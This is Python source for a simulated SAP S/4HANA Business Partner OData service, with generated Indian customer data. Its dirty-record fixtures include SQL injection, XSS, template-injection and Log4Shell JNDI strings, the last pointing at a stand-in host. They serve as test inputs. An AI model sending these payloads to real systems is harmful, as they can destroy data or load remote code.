"""SAP S/4HANA sandbox: a faithful simulator of the ``API_BUSINESS_PARTNER`` OData V2 service.

What it serves (all under ``/sap/opu/odata/sap/API_BUSINESS_PARTNER/``):

* ``A_BusinessPartner`` with ``to_Customer`` (and below it ``to_CustomerSalesArea``),
  ``to_BusinessPartnerRole``, ``to_BusinessPartnerTax`` and ``to_BusinessPartnerAddress`` (and
  below it ``to_EmailAddress``, ``to_PhoneNumber``, ``to_MobilePhoneNumber``), plus the entity
  sets ``A_Customer``, ``A_CustomerSalesArea``, ``A_BusinessPartnerRole``,
  ``A_BusinessPartnerAddress``, ``A_BusinessPartnerTaxNumber``, ``A_AddressEmailAddress``,
  ``A_AddressPhoneNumber``.
* ``$metadata`` (EDMX, ``DataServiceVersion="2.0"``) and the service document.
* Query options ``$filter $select $expand $orderby $top $skip $skiptoken $inlinecount $format``,
  server-driven paging with ``__next``, ``/$count``.
* Basic auth, OAuth2 client credentials (``POST /sap/bc/sec/oauth2/token``), the CSRF token
  protocol, ``POST A_BusinessPartner`` with deep insert (roles, addresses with e-mail and phone
  numbers, tax numbers, customer with sales areas) and SAP's refusals, ``PATCH``/``MERGE`` with
  ``If-Match`` on ``A_BusinessPartner`` and without it on addresses, e-mails and phone numbers.

The protocol is the generic engine in :mod:`sandbox.odata`; this module is the service on top
of it: the entity types, the data, the write rules (numbering, refusals, derived names, change
stamps) and the drills (mutations, added partners, raw fields, edits by SAP users, dirty
records). The data is a deterministic (by ``seed``) Indian building-materials customer base
with a few percent of deliberately dirty records; see :attr:`SapSandbox.dirty_ids`. Everything
is JSON only: requests that do not ask for JSON get ``406`` (see ``docs/sandbox-sap.md``).
"""

from __future__ import annotations

import argparse
import gc
import logging
import random
import re
import sys
import time
import uuid
from bisect import bisect_right
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, Final

from sandbox.core import FaultSwitches, SandboxResponse, parse_fault_assignments, serve
from sandbox.odata import (
    FAULTS_ENV,
    TOKEN_PATH,
    EntityType,
    Nav,
    NewEntity,
    ODataError,
    ODataSandbox,
    ODataService,
    ODataSystem,
    Prop,
    Table,
    bool_prop,
    date_prop,
    dto_prop,
    dumps,
    etag_header,
    faults_with_env,
    gc_paused,
    guid_prop,
    make_etag,
    next_etag,
    parse_wire_datetime,
    parse_wire_time,
    row_builder,
    span,
    string_prop,
    time_prop,
    value_problem,
    wire_date,
    wire_day,
    wire_dto_day,
    wire_time,
)

# Names other modules import from here since before the engine moved to sandbox.odata.
__all__ = [
    "ANCHOR_DATE",
    "BP_TYPE",
    "DIRTY_KINDS",
    "ENTITY_TYPES",
    "FAULTS_ENV",
    "FIRST_PARTNER_NUMBER",
    "NAMESPACE",
    "SERVICE",
    "SERVICE_NAME",
    "SERVICE_ROOT",
    "TOKEN_PATH",
    "TYPES_BY_SET",
    "EntityType",
    "Nav",
    "ODataError",
    "Prop",
    "SapSandbox",
    "build_sandbox",
    "build_sap_system",
    "gstin_checksum",
    "is_valid_gstin",
    "main",
    "parse_wire_datetime",
    "parse_wire_time",
    "partner_id",
    "serve_sap",
    "wire_date",
    "wire_day",
    "wire_dto_day",
    "wire_time",
]

logger = logging.getLogger(__name__)

SERVICE_NAME: Final = "API_BUSINESS_PARTNER"
SERVICE_ROOT: Final = "/sap/opu/odata/sap/API_BUSINESS_PARTNER/"
NAMESPACE: Final = "API_BUSINESS_PARTNER"
#: Generated change dates lie in the three years before this fixed day, so data is reproducible.
ANCHOR_DATE: Final = date(2026, 6, 30)
#: First BusinessPartner number; ids are 10-digit strings counting up from here.
FIRST_PARTNER_NUMBER: Final = 1_000_000_001
_BLOCK: Final = 1024  # partners are generated in independent blocks: id i never depends on the total

# ============================================================================================
# EDM schema (names and types follow SAP's published EDMX for API_BUSINESS_PARTNER)
# ============================================================================================

_s = string_prop
_b = bool_prop
_d = date_prop
_t = time_prop
_dto = dto_prop
_g = guid_prop

BP_TYPE = EntityType(
    "A_BusinessPartnerType",
    "A_BusinessPartner",
    (
        _s("BusinessPartner", 10, key=True),
        _s("Customer", 10, ro=True),
        _s("Supplier", 10, ro=True),
        _s("AcademicTitle", 4),
        _s("AuthorizationGroup", 4),
        _s("BusinessPartnerCategory", 1, create_only=True),
        _s("BusinessPartnerFullName", 81, ro=True),
        _s("BusinessPartnerGrouping", 4, create_only=True),
        _s("BusinessPartnerName", 81, ro=True),
        _g("BusinessPartnerUUID", ro=True),
        _s("CorrespondenceLanguage", 2),
        _s("CreatedByUser", 12, ro=True),
        _d("CreationDate", ro=True),
        _t("CreationTime", ro=True),
        _s("FirstName", 40),
        _s("FormOfAddress", 4),
        _s("Industry", 10),
        _s("InternationalLocationNumber1", 7),
        _s("InternationalLocationNumber2", 5),
        _b("IsFemale"),
        _b("IsMale"),
        _s("IsNaturalPerson", 1),
        _b("IsSexUnknown"),
        _s("GenderCodeName", 1),
        _s("Language", 2),
        _d("LastChangeDate", ro=True),
        _t("LastChangeTime", ro=True),
        _s("LastChangedByUser", 12, ro=True),
        _s("LastName", 40),
        _s("LegalForm", 2),
        _s("OrganizationBPName1", 40),
        _s("OrganizationBPName2", 40),
        _s("OrganizationBPName3", 40),
        _s("OrganizationBPName4", 40),
        _d("OrganizationFoundationDate"),
        _d("OrganizationLiquidationDate"),
        _s("SearchTerm1", 20),
        _s("SearchTerm2", 20),
        _s("AdditionalLastName", 40),
        _d("BirthDate"),
        _s("BusinessPartnerBirthDateStatus", 1),
        _s("BusinessPartnerBirthplaceName", 40),
        _d("BusinessPartnerDeathDate"),
        _b("BusinessPartnerIsBlocked"),
        _s("BusinessPartnerType", 4),
        _s("ETag", 26, ro=True),
        _s("GroupBusinessPartnerName1", 40),
        _s("GroupBusinessPartnerName2", 40),
        _s("IndependentAddressID", 10, ro=True),
        _s("InternationalLocationNumber3", 1),
        _s("MiddleName", 40),
        _s("NameCountry", 3),
        _s("NameFormat", 2),
        _s("PersonFullName", 80),
        _s("PersonNumber", 10, ro=True),
        _b("IsMarkedForArchiving"),
        _s("BusinessPartnerIDByExtSystem", 20),
        _s("BusinessPartnerPrintFormat", 1),
        _s("BusinessPartnerOccupation", 4),
        _s("BusPartMaritalStatus", 1),
        _s("BusPartNationality", 3),
        _s("BusinessPartnerBirthName", 40),
        _s("BusinessPartnerSupplementName", 4),
        _s("NaturalPersonEmployerName", 35),
        _s("LastNamePrefix", 4),
        _s("LastNameSecondPrefix", 4),
        _s("Initials", 10),
        _b("BPDataControllerIsNotRequired"),
        _s("TradingPartner", 6),
    ),
    ("BusinessPartner",),
    (
        Nav("to_BusinessPartnerAddress", "A_BusinessPartnerAddress", True),
        Nav("to_BusinessPartnerRole", "A_BusinessPartnerRole", True),
        Nav("to_BusinessPartnerTax", "A_BusinessPartnerTaxNumber", True),
        Nav("to_Customer", "A_Customer", False),
    ),
    has_etag=True,
)

ROLE_TYPE = EntityType(
    "A_BusinessPartnerRoleType",
    "A_BusinessPartnerRole",
    (
        _s("BusinessPartner", 10, key=True),
        _s("BusinessPartnerRole", 6, key=True),
        _dto("ValidFrom"),
        _dto("ValidTo"),
        _s("AuthorizationGroup", 4),
    ),
    ("BusinessPartner", "BusinessPartnerRole"),
)

CUSTOMER_TYPE = EntityType(
    "A_CustomerType",
    "A_Customer",
    (
        _s("Customer", 10, key=True),
        _s("AuthorizationGroup", 4),
        _s("BillingIsBlockedForCustomer", 2),
        _s("CreatedByUser", 12, ro=True),
        _d("CreationDate", ro=True),
        _s("CustomerAccountGroup", 4),
        _s("CustomerClassification", 2),
        _s("CustomerFullName", 220, ro=True),
        _s("BPCustomerFullName", 220, ro=True),
        _s("CustomerName", 80, ro=True),
        _s("BPCustomerName", 81, ro=True),
        _s("DeliveryIsBlocked", 2),
        *(_s(f"FreeDefinedAttribute{n:02d}", 2 if n <= 5 else 3) for n in range(1, 11)),
        _s("NFPartnerIsNaturalPerson", 1, ro=True),
        _s("OrderIsBlockedForCustomer", 2),
        _b("PostingIsBlocked"),
        _s("Supplier", 10),
        _s("CustomerCorporateGroup", 10),
        _s("FiscalAddress", 10),
        _s("Industry", 4, ro=True),
        *(_s(f"IndustryCode{n}", 10) for n in range(1, 6)),
        _s("InternationalLocationNumber1", 7, ro=True),
        _s("InternationalLocationNumber2", 5, ro=True),
        _s("InternationalLocationNumber3", 1, ro=True),
        _s("NielsenRegion", 2),
        _s("PaymentReason", 4),
        _s("ResponsibleType", 2),
        _s("TaxNumber1", 16, ro=True),
        _s("TaxNumber2", 11, ro=True),
        _s("TaxNumber3", 18, ro=True),
        _s("TaxNumber4", 18, ro=True),
        _s("TaxNumber5", 60, ro=True),
        _s("TaxNumberType", 2),
        _s("VATRegistration", 20, ro=True),
        _b("DeletionIndicator"),
        _s("ExpressTrainStationName", 25),
        _s("TrainStationName", 25),
        _s("CityCode", 4),
        _s("County", 3),
    ),
    ("Customer",),
    (Nav("to_CustomerSalesArea", "A_CustomerSalesArea", True),),
)

SALES_AREA_TYPE = EntityType(
    "A_CustomerSalesAreaType",
    "A_CustomerSalesArea",
    (
        _s("Customer", 10, key=True),
        _s("SalesOrganization", 4, key=True),
        _s("DistributionChannel", 2, key=True),
        _s("Division", 2, key=True),
        _s("AccountByCustomer", 12),
        _s("AuthorizationGroup", 4),
        _s("BillingIsBlockedForCustomer", 2),
        _b("CompleteDeliveryIsDefined"),
        _s("CreditControlArea", 4),
        _s("Currency", 5),
        _s("CustIsRlvtForSettlmtMgmt", 1),
        _s("CustomerABCClassification", 2),
        _s("CustomerAccountAssignmentGroup", 2),
        _s("CustomerGroup", 2),
        _s("CustomerPaymentTerms", 4),
        _s("CustomerPriceGroup", 2),
        _s("CustomerPricingProcedure", 2),
        _s("CustomerStatisticsGroup", 1),
        _s("DeliveryIsBlockedForCustomer", 2),
        _s("DeliveryPriority", 2),
        _s("IncotermsClassification", 3),
        _s("IncotermsLocation1", 70),
        _s("IncotermsTransferLocation", 28),
        _s("InvoiceDate", 2),
        _s("ItemOrderProbabilityInPercent", 3),
        _s("OrderCombinationIsAllowed", 1),
        _s("OrderIsBlockedForCustomer", 2),
        _s("PriceListType", 2),
        _s("SalesDistrict", 6),
        _s("SalesGroup", 3),
        _s("SalesOffice", 4),
        _s("ShippingCondition", 2),
        _s("SupplyingPlant", 4),
        _b("DeletionIndicator"),
    ),
    ("Customer", "SalesOrganization", "DistributionChannel", "Division"),
)

ADDRESS_TYPE = EntityType(
    "A_BusinessPartnerAddressType",
    "A_BusinessPartnerAddress",
    (
        _s("BusinessPartner", 10, key=True),
        _s("AddressID", 10, key=True),
        _dto("ValidityStartDate"),
        _dto("ValidityEndDate"),
        _s("AuthorizationGroup", 4),
        _g("AddressUUID", ro=True),
        _s("AdditionalStreetPrefixName", 40),
        _s("AdditionalStreetSuffixName", 40),
        _s("AddressTimeZone", 6),
        _s("CareOfName", 40),
        _s("CityCode", 12),
        _s("CityName", 40),
        _s("CompanyPostalCode", 10),
        _s("Country", 3),
        _s("County", 40),
        _s("DeliveryServiceNumber", 10),
        _s("DeliveryServiceTypeCode", 4),
        _s("District", 40),
        _s("FormOfAddress", 4, ro=True),
        _s("FullName", 80, ro=True),
        _s("HomeCityName", 40),
        _s("HouseNumber", 10),
        _s("HouseNumberSupplementText", 10),
        _s("Language", 2),
        _s("POBox", 10),
        _s("POBoxDeviatingCityName", 40),
        _s("POBoxDeviatingCountry", 3),
        _s("POBoxDeviatingRegion", 3),
        _b("POBoxIsWithoutNumber"),
        _s("POBoxLobbyName", 40),
        _s("POBoxPostalCode", 10),
        _s("Person", 10, ro=True),
        _s("PostalCode", 10),
        _s("PrfrdCommMediumType", 3),
        _s("Region", 3),
        _s("StreetName", 60),
        _s("StreetPrefixName", 40),
        _s("StreetSuffixName", 40),
        _s("TaxJurisdiction", 15),
        _s("TransportZone", 10),
        _s("AddressIDByExternalSystem", 20),
        _s("CountyCode", 8),
        _s("TownshipCode", 8),
        _s("TownshipName", 40),
    ),
    ("BusinessPartner", "AddressID"),
    (
        Nav("to_EmailAddress", "A_AddressEmailAddress", True),
        Nav("to_MobilePhoneNumber", "A_AddressPhoneNumber", True),
        Nav("to_PhoneNumber", "A_AddressPhoneNumber", True),
    ),
)

TAX_TYPE = EntityType(
    "A_BusinessPartnerTaxNumberType",
    "A_BusinessPartnerTaxNumber",
    (
        _s("BusinessPartner", 10, key=True),
        _s("BPTaxType", 4, key=True),
        _s("BPTaxNumber", 20),
        _s("BPTaxLongNumber", 60),
        _s("AuthorizationGroup", 4),
    ),
    ("BusinessPartner", "BPTaxType"),
)

EMAIL_TYPE = EntityType(
    "A_AddressEmailAddressType",
    "A_AddressEmailAddress",
    (
        _s("AddressID", 10, key=True),
        _s("Person", 10, key=True),
        _s("OrdinalNumber", 3, key=True),
        _b("IsDefaultEmailAddress"),
        _s("EmailAddress", 241),
        _s("SearchEmailAddress", 20, ro=True),
        _s("AddressCommunicationRemarkText", 50),
    ),
    ("AddressID", "Person", "OrdinalNumber"),
)

PHONE_TYPE = EntityType(
    "A_AddressPhoneNumberType",
    "A_AddressPhoneNumber",
    (
        _s("AddressID", 10, key=True),
        _s("Person", 10, key=True),
        _s("OrdinalNumber", 3, key=True),
        _s("DestinationLocationCountry", 3),
        _b("IsDefaultPhoneNumber"),
        _s("PhoneNumber", 30),
        _s("PhoneNumberExtension", 10),
        _s("InternationalPhoneNumber", 30, ro=True),
        _s("PhoneNumberType", 1, create_only=True),
        _s("AddressCommunicationRemarkText", 50),
    ),
    ("AddressID", "Person", "OrdinalNumber"),
)

ENTITY_TYPES: Final[tuple[EntityType, ...]] = (
    EMAIL_TYPE,
    PHONE_TYPE,
    BP_TYPE,
    ADDRESS_TYPE,
    ROLE_TYPE,
    TAX_TYPE,
    CUSTOMER_TYPE,
    SALES_AREA_TYPE,
)
#: The service on the engine: partners are created by deep insert; a partner, its addresses and
#: their e-mail and phone entries take updates (only the partner carries an ETag, as in SAP).
SERVICE: Final = ODataService(
    SERVICE_NAME,
    SERVICE_ROOT,
    NAMESPACE,
    ENTITY_TYPES,
    updatable=frozenset({BP_TYPE.set_name, ADDRESS_TYPE.set_name, EMAIL_TYPE.set_name, PHONE_TYPE.set_name}),
    component_id="LO-MD-BP",
    creatable=frozenset({BP_TYPE.set_name}),
)
TYPES_BY_SET: Final[dict[str, EntityType]] = SERVICE.types_by_set
#: Validity end SAP uses for open-ended addresses (9999-12-31T23:59:59Z).
_OPEN_END_DTO = "/Date(253402300799000+0000)/"

# ============================================================================================
# Deterministic data: an Indian building-materials customer base
# ============================================================================================

# region, GST state code, weight, Hindi-belt (CorrespondenceLanguage HI likely), surnames, cities
# city = (name, first three PIN digits, STD code, localities)
_STATES: Final[
    tuple[tuple[str, str, int, bool, tuple[str, ...], tuple[tuple[str, str, str, tuple[str, ...]], ...]], ...]
] = (
    (
        "MH",
        "27",
        18,
        False,
        (
            "Patil",
            "Deshmukh",
            "Jadhav",
            "Kulkarni",
            "Shinde",
            "Pawar",
            "Joshi",
            "Gaikwad",
            "More",
            "Chavan",
            "Kale",
            "Bhosale",
        ),
        (
            ("Mumbai", "400", "22", ("Andheri East", "Kurla West", "Bhandup", "Goregaon", "Malad", "Chembur")),
            ("Pune", "411", "20", ("Hadapsar", "Pimpri", "Chakan", "Wakad", "Kothrud", "Bhosari MIDC")),
            ("Nagpur", "440", "712", ("Sitabuldi", "Hingna MIDC", "Wardhaman Nagar")),
            ("Nashik", "422", "253", ("Satpur MIDC", "Ambad", "Panchavati")),
            ("Thane", "400", "22", ("Wagle Estate", "Kolshet", "Majiwada")),
            ("Aurangabad", "431", "240", ("Waluj MIDC", "Chikalthana", "CIDCO")),
            ("Kolhapur", "416", "231", ("Shiroli MIDC", "Rajarampuri")),
        ),
    ),
    (
        "KA",
        "29",
        12,
        False,
        ("Gowda", "Shetty", "Hegde", "Rao", "Naik", "Kamath", "Patil", "Reddy", "Bhat", "Kulkarni"),
        (
            ("Bengaluru", "560", "80", ("Peenya", "Whitefield", "Yeshwanthpur", "Electronic City", "Hebbal")),
            ("Mysuru", "570", "821", ("Hebbal Industrial Area", "Vijayanagar")),
            ("Hubballi", "580", "836", ("Gokul Road", "Tarihal")),
            ("Mangaluru", "575", "824", ("Baikampady", "Kankanady")),
            ("Belagavi", "590", "831", ("Udyambag", "Tilakwadi")),
        ),
    ),
    (
        "TN",
        "33",
        11,
        False,
        ("Iyer", "Pillai", "Murugan", "Subramanian", "Krishnan", "Raman", "Natarajan", "Chettiar", "Gounder", "Selvam"),
        (
            ("Chennai", "600", "44", ("Ambattur", "Guindy", "Porur", "Perungudi", "Tambaram")),
            ("Coimbatore", "641", "422", ("Peelamedu", "Ganapathy", "Kurichi")),
            ("Madurai", "625", "452", ("Kappalur", "Anna Nagar")),
            ("Tiruchirappalli", "620", "431", ("Thuvakudi", "Srirangam")),
            ("Salem", "636", "427", ("Suramangalam", "Hasthampatti")),
        ),
    ),
    (
        "GJ",
        "24",
        10,
        False,
        ("Patel", "Shah", "Desai", "Mehta", "Parikh", "Trivedi", "Chauhan", "Solanki", "Joshi", "Modi"),
        (
            ("Ahmedabad", "380", "79", ("Naroda GIDC", "Vatva GIDC", "Navrangpura", "Sanand")),
            ("Surat", "395", "261", ("Sachin GIDC", "Udhna", "Adajan")),
            ("Vadodara", "390", "265", ("Makarpura GIDC", "Alkapuri")),
            ("Rajkot", "360", "281", ("Aji GIDC", "Shapar")),
        ),
    ),
    (
        "DL",
        "07",
        5,
        True,
        ("Sharma", "Gupta", "Aggarwal", "Khanna", "Malhotra", "Arora", "Kapoor", "Bansal"),
        (("New Delhi", "110", "11", ("Okhla Phase II", "Naraina", "Mundka", "Kirti Nagar", "Bawana")),),
    ),
    (
        "UP",
        "09",
        9,
        True,
        ("Verma", "Yadav", "Srivastava", "Mishra", "Tiwari", "Singh", "Gupta", "Pandey", "Shukla", "Maurya"),
        (
            ("Lucknow", "226", "522", ("Aminabad", "Chinhat", "Gomti Nagar")),
            ("Noida", "201", "120", ("Sector 63", "Sector 80", "Phase II")),
            ("Ghaziabad", "201", "120", ("Sahibabad", "Loni")),
            ("Kanpur", "208", "512", ("Panki", "Dada Nagar")),
            ("Varanasi", "221", "542", ("Lahartara", "Sigra")),
            ("Agra", "282", "562", ("Sikandra", "Foundry Nagar")),
        ),
    ),
    (
        "RJ",
        "08",
        6,
        True,
        ("Meena", "Rathore", "Choudhary", "Jain", "Agarwal", "Sharma", "Shekhawat"),
        (
            ("Jaipur", "302", "141", ("Sitapura", "VKI Area", "Malviya Nagar")),
            ("Jodhpur", "342", "291", ("Basni", "Boranada")),
            ("Udaipur", "313", "294", ("Madri", "Sukher")),
            ("Kota", "324", "744", ("Indraprastha", "Talwandi")),
        ),
    ),
    (
        "WB",
        "19",
        5,
        False,
        ("Das", "Ghosh", "Banerjee", "Mukherjee", "Chatterjee", "Sen", "Bose", "Saha"),
        (
            ("Kolkata", "700", "33", ("Salt Lake", "Tiljala", "Behala", "Dum Dum")),
            ("Howrah", "711", "33", ("Liluah", "Bally")),
            ("Siliguri", "734", "353", ("Sevoke Road", "Matigara")),
            ("Durgapur", "713", "343", ("Bidhannagar", "Benachity")),
        ),
    ),
    (
        "TG",
        "36",
        6,
        False,
        ("Reddy", "Rao", "Goud", "Yadav", "Naidu", "Sharma"),
        (
            ("Hyderabad", "500", "40", ("Kukatpally", "Jeedimetla", "Uppal", "Gachibowli", "Balanagar")),
            ("Warangal", "506", "870", ("Hanamkonda", "Kazipet")),
        ),
    ),
    (
        "AP",
        "37",
        4,
        False,
        ("Naidu", "Reddy", "Chowdary", "Raju", "Varma", "Rao"),
        (
            ("Visakhapatnam", "530", "891", ("Gajuwaka", "Autonagar")),
            ("Vijayawada", "520", "866", ("Autonagar", "Benz Circle")),
            ("Guntur", "522", "863", ("Arundelpet", "Nallapadu")),
        ),
    ),
    (
        "KL",
        "32",
        3,
        False,
        ("Nair", "Menon", "Pillai", "Thomas", "Kurian", "Varghese", "Joseph"),
        (
            ("Kochi", "682", "484", ("Kalamassery", "Edappally", "Vyttila")),
            ("Thiruvananthapuram", "695", "471", ("Kazhakoottam", "Pappanamcode")),
            ("Kozhikode", "673", "495", ("West Hill", "Nallalam")),
        ),
    ),
    (
        "MP",
        "23",
        4,
        True,
        ("Tiwari", "Chouhan", "Dubey", "Patel", "Jain", "Soni"),
        (
            ("Indore", "452", "731", ("Sanwer Road", "Pithampur", "Vijay Nagar")),
            ("Bhopal", "462", "755", ("Govindpura", "Mandideep")),
            ("Jabalpur", "482", "761", ("Richhai", "Adhartal")),
        ),
    ),
    (
        "HR",
        "06",
        3,
        True,
        ("Yadav", "Malik", "Dahiya", "Hooda", "Saini", "Goyal"),
        (
            ("Gurugram", "122", "124", ("Udyog Vihar", "Sohna Road", "Manesar")),
            ("Faridabad", "121", "129", ("Sector 24", "Ballabgarh")),
        ),
    ),
    (
        "PB",
        "03",
        2,
        False,
        ("Singh", "Gill", "Sandhu", "Dhillon", "Grewal", "Sidhu"),
        (
            ("Ludhiana", "141", "161", ("Focal Point", "Giaspura")),
            ("Amritsar", "143", "183", ("Verka", "Majitha Road")),
            ("Jalandhar", "144", "181", ("Leather Complex", "Model Town")),
        ),
    ),
    (
        "OD",
        "21",
        2,
        False,
        ("Mohanty", "Patnaik", "Das", "Mishra", "Sahoo", "Behera"),
        (("Bhubaneswar", "751", "674", ("Mancheswar", "Patia")), ("Cuttack", "753", "671", ("Jagatpur", "Madhupatna"))),
    ),
)


# Export customers: country, cities (name, region, postal code, dialling prefix, mobile prefix, digits)
_FOREIGN: Final = (
    (
        "AE",
        (
            ("Dubai", "DU", "", "+971", "5", 9),
            ("Abu Dhabi", "AZ", "", "+971", "5", 9),
            ("Sharjah", "SH", "", "+971", "5", 9),
        ),
    ),
    ("NP", (("Kathmandu", "", "44600", "+977", "98", 10), ("Biratnagar", "", "56613", "+977", "98", 10))),
    ("BD", (("Dhaka", "", "1212", "+880", "17", 10), ("Chattogram", "", "4000", "+880", "18", 10))),
    ("LK", (("Colombo", "", "00300", "+94", "7", 9), ("Kandy", "", "20000", "+94", "7", 9))),
)

_FIRST_MALE: Final = (
    "Rajesh",
    "Suresh",
    "Ramesh",
    "Mahesh",
    "Anil",
    "Sunil",
    "Vijay",
    "Sanjay",
    "Rakesh",
    "Amit",
    "Prakash",
    "Ganesh",
    "Manoj",
    "Deepak",
    "Arvind",
    "Naveen",
    "Venkatesh",
    "Srinivas",
    "Karthik",
    "Murali",
    "Harish",
    "Dinesh",
    "Sandeep",
    "Ashok",
    "Gopal",
    "Raju",
    "Imran",
    "Salim",
    "Joseph",
    "Gurpreet",
    "Mohan",
    "Balaji",
    "Senthil",
    "Pradeep",
    "Yogesh",
    "Nitin",
    "Rahul",
    "Vikram",
)
_FIRST_FEMALE: Final = (
    "Priya",
    "Lakshmi",
    "Sunita",
    "Anita",
    "Kavita",
    "Meena",
    "Deepa",
    "Asha",
    "Rekha",
    "Pooja",
    "Shalini",
    "Divya",
    "Geeta",
    "Savitri",
    "Fatima",
    "Mary",
    "Harpreet",
    "Radha",
    "Uma",
    "Neha",
)
_AUSPICIOUS: Final = (
    "Shree Ganesh",
    "Sai",
    "Balaji",
    "Om Sai",
    "Jai Bhavani",
    "Mahalaxmi",
    "Tirupati",
    "Shree Ram",
    "Maruti",
    "Vinayaka",
    "Murugan",
    "Ayyappa",
    "Durga",
    "Annapoorna",
    "Shiv Shakti",
    "Jai Hind",
    "Shree Krishna",
    "Hanuman",
    "Siddhivinayak",
    "Jai Ambe",
    "Umiya",
    "Khodiyar",
    "Sri Venkateswara",
)
_GENERIC: Final = (
    "National",
    "Royal",
    "Supreme",
    "Apex",
    "Prime",
    "Modern",
    "Unique",
    "Perfect",
    "Sunrise",
    "Pioneer",
    "Everest",
    "Kaveri",
    "Ganga",
    "Narmada",
    "Sahyadri",
    "Vindhya",
    "Deccan",
    "Coastal",
    "Metro",
    "Star",
    "Bharat",
    "Hindustan",
    "Classic",
    "Galaxy",
    "Reliable",
    "Crystal",
    "Silver Oak",
)
_INITIALS: Final = ("R.K.", "S.S.", "M.R.", "A.P.", "K.G.", "V.K.", "J.B.", "N.S.")

# segment, weight, account group, BP industry, customer industry, name cores, legal forms
_SEGMENTS: Final = (
    (
        "dealer",
        34,
        "ZDLR",
        "BLDMAT-TRD",
        "TRAD",
        (
            "Building Materials",
            "Cement Agencies",
            "Cement Depot",
            "Traders",
            "Enterprises",
            "Distributors",
            "Sales Corporation",
            "Building Solutions",
            "Marketing",
            "Agencies",
            "Trading Co.",
        ),
        ("01", "01", "02", "03", "04"),
    ),
    (
        "hardware",
        20,
        "ZHWS",
        "HARDWARE",
        "RETL",
        (
            "Hardware",
            "Hardware & Paints",
            "Hardware Stores",
            "Sanitary & Hardware",
            "Tiles & Hardware",
            "Hardware Mart",
            "Steel & Hardware",
            "Paints & Hardware Centre",
        ),
        ("01", "01", "01", "02"),
    ),
    (
        "contractor",
        20,
        "ZCON",
        "CONSTRUCT",
        "CONS",
        (
            "Constructions",
            "Construction Co.",
            "Infra Projects",
            "Infrastructure",
            "Civil Works",
            "Engineers & Contractors",
            "Buildcon",
            "Projects",
        ),
        ("01", "02", "03", "04", "04"),
    ),
    (
        "builder",
        11,
        "ZBLD",
        "REALESTATE",
        "REAL",
        ("Developers", "Builders", "Realty", "Homes", "Estates", "Properties", "Builders & Developers"),
        ("03", "04", "04", "05"),
    ),
    (
        "rmc",
        5,
        "ZRMC",
        "RMC",
        "MANU",
        ("Ready Mix Concrete", "RMC", "Concrete Products", "Readymix", "Infra Concrete"),
        ("04", "04", "05"),
    ),
    (
        "applicator",
        6,
        "ZAPP",
        "APPLICATOR",
        "SERV",
        ("Waterproofing Solutions", "Tile Fixers", "Flooring Solutions", "Applicators", "Tiling Works", "Coatings"),
        ("01", "01", "02"),
    ),
    ("institution", 4, "ZINS", "PUBLIC", "GOVT", (), ("06",)),
)
_SEGMENT_CUM: Final = tuple(sum(s[1] for s in _SEGMENTS[: i + 1]) for i in range(len(_SEGMENTS)))
_LEGAL_SUFFIX: Final = {"01": "", "02": " & Co.", "03": " LLP", "04": " Pvt Ltd", "05": " Ltd", "06": ""}
_INSTITUTIONS: Final = (
    "{city} Municipal Corporation",
    "Public Works Department {city}",
    "{city} Smart City Ltd",
    "Military Engineer Services {city}",
    "{city} Development Authority",
    "{city} Metro Rail Corp",
)
_STREETS: Final = (
    "MG Road",
    "Station Road",
    "Nagar Road",
    "Industrial Area Phase 2",
    "Ring Road",
    "Main Road",
    "Market Yard",
    "Link Road",
    "NH 48 Service Road",
    "Gandhi Road",
    "Nehru Street",
    "Temple Road",
    "Old Bypass Road",
    "Mill Road",
    "Transport Nagar",
    "Bazaar Street",
    "Cross Road No. 4",
)
_HOUSE_PREFIX: Final = ("", "", "Plot ", "Shop ", "Gala ", "Survey No. ", "")
_USERS: Final = ("SDADMIN", "KPATIL", "RSHARMA", "AIYER", "MDM_SYNC", "CRM_BRIDGE", "SREDDY")
_FREE_MAIL: Final = ("gmail.com", "gmail.com", "gmail.com", "yahoo.co.in", "rediffmail.com", "outlook.com")
_CORP_TLD: Final = (".com", ".in", ".co.in")
_GO_LIVE: Final = date(2019, 4, 1)  # S/4 go-live: older partners came in with the migration
_FIRST_CREATION: Final = date(2012, 1, 1)
_ANCHOR_ORDINAL: Final = ANCHOR_DATE.toordinal()
_GO_LIVE_ORDINAL: Final = _GO_LIVE.toordinal()
_FIRST_CREATION_ORDINAL: Final = _FIRST_CREATION.toordinal()
_BIRTH_ORDINAL: Final = date(1960, 1, 1).toordinal()
_FOUNDATION_ORDINAL: Final = date(1975, 1, 1).toordinal()

#: Reason codes used in :attr:`SapSandbox.dirty_ids`.
DIRTY_KINDS: Final[tuple[str, ...]] = (
    "missing_name",
    "invalid_email",
    "invalid_phone",
    "unknown_country",
    "duplicate_gstin",
    "invalid_gstin",
    "non_ascii_name",
    "injection_like_name",
    "mostly_null",
    "untrimmed_name",
    "invalid_postal_code",
)
_DIRTY_WEIGHTS: Final = (12, 14, 14, 8, 10, 6, 10, 8, 5, 7, 6)
_DIRTY_RATE: Final = 0.038
_BAD_EMAILS: Final = (
    "rajesh@@mail",
    "no-email",
    "name@domain",
    "sales@.com",
    "info at shreetraders dot com",
    "NA",
    "test@test",
)
_BAD_PHONES: Final = ("12345", "+91 98-abc", "0000000000", "98765", "N/A", "+91 99999 9999 9")
_BAD_COUNTRIES: Final = ("XX", "IND", "", "In")
_NON_ASCII: Final = (
    "श्री गणेश बिल्डिंग मटेरियल्स",
    "महालक्ष्मी हार्डवेयर",
    "முருகன் கட்டுமான பொருட்கள்",
    "ஸ்ரீ விநாயகா டிரேடர்ஸ்",
    "ಶ್ರೀ ಲಕ್ಷ್ಮೀ ಹಾರ್ಡ್‌ವೇರ್",
    "Müller Baustoffe GmbH",
    "శ్రీ సాయి సిమెంట్ ఏజెన్సీస్",
    "Société Générale de Construction",
    "Ångström Tiles & Décor",
    "Çelik Yapı Malzemeleri",  # noqa: RUF001 - deliberately non-ASCII
    "বিশ্বাস বিল্ডার্স",
)
_INJECTION: Final = (
    "Robert'); DROP TABLE customers;--",
    "<script>alert(1)</script> Traders",
    "'; DELETE FROM partners WHERE '1'='1",
    "Shah & Sons <b>Hardware</b>",
    '" OR 1=1 -- Enterprises',
    "{{7*7}} Constructions",
    "${jndi:ldap://evil.example/a} Infra",
    "Sai Hardware\tand\nPaints",
)
_GSTIN_CHARS: Final = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
_UPPER: Final = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def is_valid_gstin(value: str | None) -> bool:
    """True for a 15-character GSTIN with a correct check character."""
    if not value or len(value) != 15 or not value.isalnum() or not value[:2].isdigit():
